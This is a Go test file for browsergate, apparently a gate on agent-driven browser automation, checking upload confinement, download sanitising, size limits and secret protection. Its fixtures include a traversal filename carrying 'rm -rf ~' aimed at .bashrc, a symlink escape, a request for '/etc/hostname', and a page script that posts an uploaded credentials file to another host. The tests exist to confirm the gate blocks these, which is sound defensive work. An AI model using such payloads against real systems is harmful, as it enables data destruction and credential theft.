package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/browsergate/browsergate/internal/testkit"
)

// TestUploadFile: upload_file attaches a file of the manifest's upload
// directory to a file input after a human approves it (the shipped
// policy), and the site receives exactly its bytes; the reply and the
// evidence carry its name, size and SHA-256. A path out of the directory
// (.., absolute, a symlink pointing out), a directory, a missing file and
// an element that is not a file input are refused before anyone is asked.
func TestUploadFile(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	up := filepath.Join(dir, "uploads")
	if err := os.Mkdir(up, 0o755); err != nil {
		t.Fatal(err)
	}
	content := "quarterly numbers: 42\n"
	testkit.WriteFile(t, up, "report.txt", content)
	testkit.WriteFile(t, dir, "outside.txt", "not for the page")
	if err := os.Symlink(filepath.Join(dir, "outside.txt"), filepath.Join(up, "escape.txt")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(up, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	f := startWith(t, inputManifest()+fmt.Sprintf(`[browser.commands.upload_file]
[browser.files]
upload_dir = %q
`, up))
	site, received := serveUploads(t, `<input type=file id=f name=doc aria-label=Document><input id=t aria-label=Name>`)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	for file, want := range map[string]string{
		"../outside.txt": "not a file inside the upload directory",
		"escape.txt":     "not a file inside the upload directory",
		"sub":            "not a regular file",
		"missing.txt":    "not a file inside the upload directory",
		"/etc/hostname":  `argument "file"`,
	} {
		f.mustRefuse(t, "e2e.upload_file", map[string]any{"selector": "#f", "file": file}, want)
	}
	f.mustRefuse(t, "e2e.upload_file", map[string]any{"selector": "#t", "file": "report.txt"}, "is not a file input")

	// The human is asked about the file as it was read, by its digest;
	// a file changed while the call waits is another call.
	sum := sha256.Sum256([]byte(content))
	h := f.callAsync(t, "e2e.upload_file", map[string]any{"selector": "#f", "file": "report.txt"})
	id := f.pendingID(t, h)
	if out, _ := f.approvals(t, "list"); !strings.Contains(out, hex.EncodeToString(sum[:])) {
		t.Errorf("approvals list does not show the file's digest:\n%s", out)
	}
	swapped := fmt.Sprintf("swapped after the question was asked (%d)\n", time.Now().UnixNano())
	testkit.WriteFile(t, up, "report.txt", swapped)
	if out, err := f.approvals(t, "approve", id, "--by", "alice"); err != nil {
		t.Fatalf("approve: %v\n%s", err, out)
	}
	if out, refused := h.wait(t); !refused || !strings.Contains(out, "file changed") || !strings.Contains(out, hex.EncodeToString(sum[:])) {
		t.Fatalf("an upload whose file changed after the question was asked:\n%s", out)
	}
	// The refused call's private copy of the file is gone with it.
	copies, _ := filepath.Glob(filepath.Join(os.TempDir(), "browsergate-files-*", "up-*", "report.txt"))
	for _, c := range copies {
		if b, _ := os.ReadFile(c); string(b) == swapped {
			t.Errorf("the refused upload's copy of the file was left behind: %s", c)
		}
	}
	testkit.WriteFile(t, up, "report.txt", content)

	h = f.callAsync(t, "e2e.upload_file", map[string]any{"selector": "#f", "file": "report.txt"})
	id = f.pendingID(t, h)
	if out, err := f.approvals(t, "approve", id, "--by", "alice"); err != nil {
		t.Fatalf("approve: %v\n%s", err, out)
	}
	out, refused := h.wait(t)
	if refused || !strings.Contains(out, fmt.Sprintf("attached report.txt (%d bytes, sha256 %s)", len(content), hex.EncodeToString(sum[:]))) {
		t.Fatalf("upload_file:\n%s", out)
	}
	f.mustAllow(t, "e2e.click", map[string]any{"selector": "button"})
	if got := received("report.txt"); got != content {
		t.Errorf("the site received %q, want the file's bytes", got)
	}
	f.cs.Close()
	var files int
	for _, e := range readEnvelopes(t, f.evidence) {
		for _, fr := range e.Files {
			files++
			if fr.Direction != "upload" || fr.Name != "report.txt" || fr.Size != int64(len(content)) || fr.SHA256 != hex.EncodeToString(sum[:]) {
				t.Errorf("evidence file = %+v", fr)
			}
		}
	}
	if files != 1 {
		t.Errorf("the evidence records %d files, want 1", files)
	}
}

// TestDownloads: with download declared, the pages' own downloads (a
// link with a hostile Content-Disposition name, a link with the download
// attribute, a blob the page made) are saved in the download directory
// under sanitised names that never replace a file, with name, size, type
// and SHA-256 in the reply and the evidence; download {url} fetches with
// the session's cookies. A download over max_download_bytes (by a click or
// by download) is refused and nothing of it is left; download of the
// canary, directly or by a redirect, is refused and the canary sees
// nothing. Without download declared, a download link is refused and
// reported, and nothing is saved.
func TestDownloads(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	down := filepath.Join(dir, "downloads")
	if err := os.Mkdir(down, 0o755); err != nil {
		t.Fatal(err)
	}
	testkit.WriteFile(t, down, "report.csv", "already here\n")
	// Part of a file a daemon stopped in the middle of its copy left: the
	// first download into the directory has it removed.
	stale := testkit.WriteFile(t, down, ".browsergate-00112233445566ff.part", "half a fi")
	if err := os.Chtimes(stale, time.Now().Add(-2*time.Hour), time.Now().Add(-2*time.Hour)); err != nil {
		t.Fatal(err)
	}
	f := startWith(t, inputManifest()+fmt.Sprintf(`[browser.commands.download]
[browser.files]
download_dir = %q
max_download_bytes = 1000
`, down))
	const csv = "a,b\n1,2\n"
	var mu sync.Mutex
	cookies := map[string]string{}
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "sid", Value: "s3cr3t-session", HttpOnly: true})
		fmt.Fprint(w, `<title>files</title>
<a id=hostile href="/hostile">hostile</a> <a id=csv href="/report.csv" download>csv</a> <a id=big href="/big">big</a>
<button id=blob onclick="const a = document.createElement('a'); a.href = window.URL.createObjectURL(new Blob(['made by the page'], {type: 'text/plain'})); a.download = 'notes.txt'; document.body.append(a); a.click()">blob</button>`)
	})
	mux.HandleFunc("/hostile", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="../../.bashrc; rm -rf ~.sh"`)
		fmt.Fprint(w, "#!/bin/sh\necho pwned\n")
	})
	mux.HandleFunc("/report.csv", func(w http.ResponseWriter, r *http.Request) {
		if c, err := r.Cookie("sid"); err == nil {
			mu.Lock()
			cookies[r.URL.Query().Get("via")] = c.Value
			mu.Unlock()
		}
		w.Header().Set("Content-Type", "text/csv")
		fmt.Fprint(w, csv)
	})
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="big.bin"`)
		w.Write([]byte(strings.Repeat("x", 5000)))
	})
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, f.canaryTo+"/redirected.bin", http.StatusFound)
	})
	site, stop, err := serveOn("127.0.0.1:0", mux)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/page"})

	out := f.mustAllow(t, "e2e.click", map[string]any{"selector": "#blob"})
	if !strings.Contains(out, "saved as notes.txt") {
		t.Errorf("the page's blob was not saved:\n%s", out)
	}
	// Chromium's suggested name is already flattened ("_.._.bashrc; rm
	// -rf ~.sh"); browsergate's own sanitising takes the rest.
	out = f.mustAllow(t, "e2e.click", map[string]any{"selector": "#hostile"})
	if !strings.Contains(out, "saved as _.._.bashrc_ rm -rf _.sh in the download directory") {
		t.Errorf("the hostile name was not saved sanitised:\n%s", out)
	}
	out = f.mustAllow(t, "e2e.click", map[string]any{"selector": "#csv"})
	sum := sha256.Sum256([]byte(csv))
	if !strings.Contains(out, fmt.Sprintf("saved as report (2).csv in the download directory (%d bytes, text/plain; charset=utf-8, sha256 %s)", len(csv), hex.EncodeToString(sum[:]))) {
		t.Errorf("the download link's file was not saved beside the one there:\n%s", out)
	}
	out = f.mustAllow(t, "e2e.click", map[string]any{"selector": "#big"})
	if !strings.Contains(out, `download of `+site+`/big ("big.bin") refused at limits (max_download_bytes): larger than max_download_bytes (1000 bytes); nothing was saved`) {
		t.Errorf("the large download was not refused:\n%s", out)
	}
	out = f.mustAllow(t, "e2e.download", map[string]any{"url": site + "/report.csv?via=download"})
	if !strings.Contains(out, "saved as report (3).csv") || !strings.Contains(out, "text/csv") {
		t.Errorf("download did not save the file:\n%s", out)
	}
	mu.Lock()
	if cookies["download"] != "s3cr3t-session" {
		t.Errorf("download did not carry the session's (HttpOnly) cookie: %v", cookies)
	}
	mu.Unlock()
	f.mustRefuse(t, "e2e.download", map[string]any{"url": site + "/big"}, "larger than max_download_bytes")
	f.mustRefuse(t, "e2e.download", map[string]any{"url": f.canaryTo + "/direct.bin"}, `argument "url"`)
	f.mustRefuse(t, "e2e.download", map[string]any{"url": site + "/redirect"}, "download "+site+"/redirect")
	if !f.net.Clean() {
		t.Errorf("the canary saw requests: %s", f.net)
	}

	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Lstat(stale); os.IsNotExist(err) {
			break
		} else if time.Now().After(deadline) {
			t.Errorf("the stale staging file is still in the download directory: %v", err)
			break
		}
	}
	want := map[string]string{
		"report.csv":               "already here\n",
		"_.._.bashrc_ rm -rf _.sh": "#!/bin/sh\necho pwned\n",
		"report (2).csv":           csv,
		"report (3).csv":           csv,
		"notes.txt":                "made by the page",
	}
	entries, err := os.ReadDir(down)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != len(want) {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		t.Errorf("the download directory holds %q, want exactly the %d saved files (nothing partial)", names, len(want))
	}
	for name, content := range want {
		if b, err := os.ReadFile(filepath.Join(down, name)); err != nil || string(b) != content {
			t.Errorf("%s = %q, %v; want %q", name, b, err, content)
		}
	}
	f.cs.Close()
	saved, refused := map[string]bool{}, 0
	for _, e := range readEnvelopes(t, f.evidence) {
		for _, fr := range e.Files {
			if fr.Direction != "download" {
				t.Errorf("evidence file = %+v", fr)
			}
			if fr.Refused != "" {
				refused++
				continue
			}
			saved[fr.Name] = true
			if b, _ := os.ReadFile(filepath.Join(down, fr.Name)); fmt.Sprintf("%x", sha256.Sum256(b)) != fr.SHA256 || int64(len(b)) != fr.Size || fr.URL == "" {
				t.Errorf("evidence of %s = %+v, does not match the file", fr.Name, fr)
			}
		}
	}
	if len(saved) != 4 || refused != 2 {
		t.Errorf("the evidence records saved %v and %d refused downloads, want 4 and 2", saved, refused)
	}
}

// TestDownloadsUndeclared: a manifest without download saves nothing: a
// download link's file is refused and the reply and the evidence say so.
func TestDownloadsUndeclared(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	site, _ := serveLogged(t, map[string]string{
		"/page": `<title>files</title><button id=csv onclick="const a = document.createElement('a'); a.href = window.URL.createObjectURL(new Blob(['a,b'])); a.download = 'data.csv'; a.click()">csv</button>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/page"})
	out := f.mustAllow(t, "e2e.click", map[string]any{"selector": "#csv"})
	if !strings.Contains(out, `("data.csv") refused at manifest (download not declared): the manifest does not declare download; nothing was saved`) {
		t.Errorf("the undeclared download was not refused and reported:\n%s", out)
	}
	f.cs.Close()
	var refused int
	for _, e := range readEnvelopes(t, f.evidence) {
		for _, fr := range e.Files {
			if fr.Direction == "download" && strings.Contains(fr.Refused, "does not declare download") {
				refused++
			}
		}
	}
	if refused != 1 {
		t.Errorf("the evidence records %d refused downloads, want 1", refused)
	}
}

// TestLiveDownloads: in the user's own browser (live, the user's context)
// a download in the session's tab and one in a user's tab the session
// adopted are saved in the manifest's download directory, under the same
// rules.
func TestLiveDownloads(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	down := t.TempDir()
	f := startWith(t, fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint))+fmt.Sprintf(`[browser.commands.download]
[browser.files]
download_dir = %q
`, down))
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<title>files</title><a id=get href="/file?n=`+r.URL.Query().Get("n")+`">get</a>`)
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename="file-`+r.URL.Query().Get("n")+`.txt"`)
		fmt.Fprint(w, "file "+r.URL.Query().Get("n"))
	})
	site, stop, err := serveOn("127.0.0.1:0", mux)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	usersTab(t, endpoint, site+"/page?n=user")

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/page?n=session"})
	if out := f.mustAllow(t, "e2e.click", map[string]any{"selector": "#get"}); !strings.Contains(out, "saved as file-session.txt") {
		t.Errorf("the session's download:\n%s", out)
	}
	f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": f.tabID(t, "e2e", "user", "n=user")})
	if out := f.mustAllow(t, "e2e.click", map[string]any{"selector": "#get"}); !strings.Contains(out, "saved as file-user.txt") {
		t.Errorf("the download in the adopted tab:\n%s", out)
	}
	for _, n := range []string{"session", "user"} {
		if b, err := os.ReadFile(filepath.Join(down, "file-"+n+".txt")); string(b) != "file "+n {
			t.Errorf("file-%s.txt = %q, %v", n, b, err)
		}
	}
}

// TestUploadedFileCannotCarryTheSecret: a file in upload_dir holds a
// secret's value (a page's download of it saved there, or an operator's
// file). Attaching it to a page outside the secret's domains (127.0.0.3,
// in the scope) and sending the form there would take the value where
// type_text may not: refused at stage secrets. Attached on the secret's
// own site, the page reads the file and sends it to 127.0.0.3: the value
// is held to its domains as a typed one is. 127.0.0.3 never sees it.
func TestUploadedFileCannotCarryTheSecret(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	up := t.TempDir()
	if err := os.WriteFile(filepath.Join(up, "creds.txt"), []byte("user=me\npassword="+secretValue+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	manifest := liveSecretFilesManifest(endpoint, "upload_file", "upload_dir", up)
	// The shipped policy asks a human for every upload, who sees the
	// file's name, size and hash, not that it holds the value: without
	// it, as an operator may run, the gate alone must hold the value.
	policies := testkit.CopyPolicies(t)
	for _, name := range []string{"files.cedar", "policy-tests.json"} { // and the shipped policies' tests of it
		if err := os.Remove(filepath.Join(policies, name)); err != nil {
			t.Fatal(err)
		}
	}
	f := startWith(t, manifest, "--policies", policies)
	var mu sync.Mutex
	var got []string
	form := `<title>upload</title><form id=f method=POST enctype=multipart/form-data action="/post"><input type=file id=file name=file><button id=send>send</button></form>`
	other, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		got = append(got, r.URL.String()+" "+string(b))
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, form)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopX)
	site, _ := serveLogged(t, map[string]string{
		"/up": fmt.Sprintf(`<title>site upload</title><input type=file id=file><script>
document.getElementById('file').addEventListener('change', e => e.target.files[0].text().then(v =>
  fetch(%q, {method: 'POST', body: v, mode: 'no-cors'}).catch(() => {})));
</script>`, other+"/from-site"),
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": other + "/form"})
	out, refused := f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
	t.Logf("upload_file on 127.0.0.3 (refused %v):\n%s", refused, out)
	if !refused || !strings.Contains(out, "DENIED at secrets") {
		t.Errorf("a file holding the secret was attached on a page outside its domains")
		f.call(t, "e2e.click", map[string]any{"selector": "#send"})
	}
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/up"})
	out, _ = f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
	t.Logf("upload_file on the site:\n%s", out)
	time.Sleep(2 * time.Second)
	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.list_tabs", nil))
	mu.Lock()
	defer mu.Unlock()
	for _, g := range got {
		if strings.Contains(g, secretValue[:len(secretValue)/2]) {
			t.Errorf("127.0.0.3 got the secret's value: %q", g)
		}
	}
}
